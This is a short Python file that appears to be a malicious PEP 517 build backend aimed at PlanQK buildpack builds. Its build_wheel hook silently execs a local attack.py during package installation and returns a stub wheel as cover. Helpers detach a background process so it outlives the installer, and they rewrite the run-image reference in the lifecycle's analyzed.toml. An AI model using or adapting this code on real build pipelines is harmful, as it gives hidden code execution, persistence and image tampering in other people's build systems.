"""Builds a package without any other, and runs attack.py first: a stranger's installer."""

import os, re, zipfile

ANALYZED = "/layers/analyzed.toml"
OWN = "/layers/planqk-buildpacks_python-env"
NEXT = "/layers/planqk-buildpacks_planqk-wrapper"


def change(path, *changes):
    text = open(path).read()
    for old, new in changes:
        text = re.sub(old, new, text, flags=re.DOTALL)
    open(path, "w").write(text)


def build_on(image):
    change(ANALYZED, (r'(\[run-image\][^\[]*?reference = )"[^"]*"', rf'\1"{image}"'),
           (r'(\[run-image\][^\[]*?image = )"[^"]*"', rf'\1"{image}"'))


def stay(work):
    """Outlives the installer, and its buildpack."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for stream in (0, 1, 2):
                os.dup2(os.open(os.devnull, os.O_RDWR), stream)
            work()
        os._exit(0)


def build_wheel(folder, settings=None, metadata=None):
    exec(open("attack.py").read(), globals())
    name = "pkg-1.dist-info/"
    with zipfile.ZipFile(os.path.join(folder, "pkg-1-py3-none-any.whl"), "w") as wheel:
        wheel.writestr("pkg.py", "")
        wheel.writestr(name + "METADATA", "Metadata-Version: 2.1\nName: pkg\nVersion: 1\n")
        wheel.writestr(name + "WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr(name + "RECORD", "pkg.py,,\n")
    return "pkg-1-py3-none-any.whl"
